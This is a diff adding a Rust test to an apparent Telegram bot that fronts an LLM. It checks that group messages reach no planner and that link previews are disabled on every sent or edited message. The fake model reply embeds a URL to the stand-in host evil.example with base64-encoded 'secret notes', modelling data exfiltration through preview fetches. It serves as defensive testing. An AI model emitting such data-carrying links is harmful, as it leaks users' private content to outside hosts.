@@ -1088,6 +1088,53 @@ async fn strangers_get_one_code_and_nothing_reaches_the_planner_until_paired() {
 }
 
 #[tokio::test]
+async fn messages_in_a_group_start_nothing_and_no_message_shows_a_link_preview() {
+    const GROUP: i64 = -100_777;
+    let s = stack().await;
+    s.pair(ADA, "Ada", "full").await;
+    // In a group, neither a paired person's message nor a stranger's reaches the planner,
+    // and nothing (an answer, a card, a pairing code) is said where everyone reads it.
+    s.tg.group_message(GROUP, user(ADA, "Ada", "en"), "/x summarise my notes");
+    s.tg.group_message(GROUP, user(MALLORY, "Mallory", "en"), "hello bot");
+    s.tg.until("both confirmed", FakeTelegram::all_confirmed)
+        .await;
+    // Ada's private message after them is answered: the group's were read and dropped.
+    s.llm.push(Reply::Text(
+        "Done: https://evil.example/p?d=c2VjcmV0IG5vdGVz".into(),
+    ));
+    s.tg.message(ADA, user(ADA, "Ada", "en"), "hi");
+    s.tg.until("the answer", |tg| {
+        tg.texts_to(ADA).iter().any(|t| t.starts_with("Done:"))
+    })
+    .await;
+    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
+    assert!(
+        s.tg.texts_to(GROUP).is_empty(),
+        "{:?}",
+        s.tg.texts_to(GROUP)
+    );
+    assert!(s.tg.texts_to(MALLORY).is_empty());
+    let received = s.llm.received();
+    assert_eq!(
+        received.len(),
+        1,
+        "only Ada's private message starts a turn"
+    );
+    assert!(!received[0].body.to_string().contains("summarise my notes"));
+    // Telegram's servers would fetch a link in a message to preview it, carrying the
+    // query to its host before anyone read it: no send and no edit asks for a preview.
+    let sends = s.tg.calls("sendMessage");
+    assert!(sends.len() >= 2, "{sends:?}");
+    for call in sends.iter().chain(s.tg.calls("editMessageText").iter()) {
+        assert_eq!(
+            call.body["link_preview_options"]["is_disabled"], true,
+            "{:?}",
+            call.body
+        );
+    }
+}
+
+#[tokio::test]
 async fn a_write_is_approved_by_button_and_the_card_is_closed() {
     let s = stack().await;
     s.pair(ADA, "Ada", "supervised").await;
